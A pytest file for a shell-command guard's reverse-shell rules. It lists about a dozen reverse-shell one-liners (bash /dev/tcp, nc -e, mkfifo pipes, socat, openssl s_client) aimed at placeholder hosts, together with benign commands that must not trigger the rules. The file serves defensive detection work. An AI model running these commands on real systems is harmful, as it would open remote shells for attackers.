"""Reverse shells: dangerous commands in many spellings, and ordinary commands."""

import pytest

from hermes_guard.guard import Guard
from hermes_guard.rules.reverse_shells import FAMILY

GUARD = Guard()
OWN = {rule.id for rule in FAMILY.rules}

DANGEROUS = (
    "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
    "exec 3<>/dev/tcp/1.2.3.4/1; cat <&3 | while read l; do $l; done",
    "nc -nv 1.2.3.4 1 -e /bin/bash",
    "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 1 >/tmp/f",
    "mknod p p && nc h 1 0<p | /bin/bash 1>p",
    "ncat h 1 --ssl -e /bin/bash",
    "socat exec:'bash -li',pty,stderr tcp:h:1",
    "openssl s_client -quiet -connect h:1 < /tmp/s | /bin/sh > /tmp/s",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:1 > /tmp/s",
    "ssh -fNR 1:localhost:22 h",
    "script -qc 'bash -i' /dev/null | nc h 1",
    "msfvenom -p x",
)
ORDINARY = (
    "ssh -N -L 5432:db:5432 h",
    "nc -zv localhost 22",
    "nc -l 9000",
    "socat -d -d pty,raw,echo=0 pty,raw,echo=0",
    "openssl s_client -connect example.com:443 -servername example.com </dev/null",
    "telnet localhost 6379",
    "xterm -e top",
    "env DISPLAY=:0 xterm",
    "timeout 5 bash -c 'until nc -z localhost 5432; do sleep 1; done'",
    "while ! nc -z db 5432; do sleep 1; done",
)


@pytest.mark.parametrize("command", DANGEROUS)
def test_what_an_attacker_would_try_is_asked_about(command: str) -> None:
    assert GUARD.judge(command, home="/home/dev").severity != "allow"


@pytest.mark.parametrize("command", ORDINARY)
def test_an_ordinary_day_hears_nothing_of_these_rules(command: str) -> None:
    assert not OWN & set(GUARD.judge(command, home="/home/dev").rules)
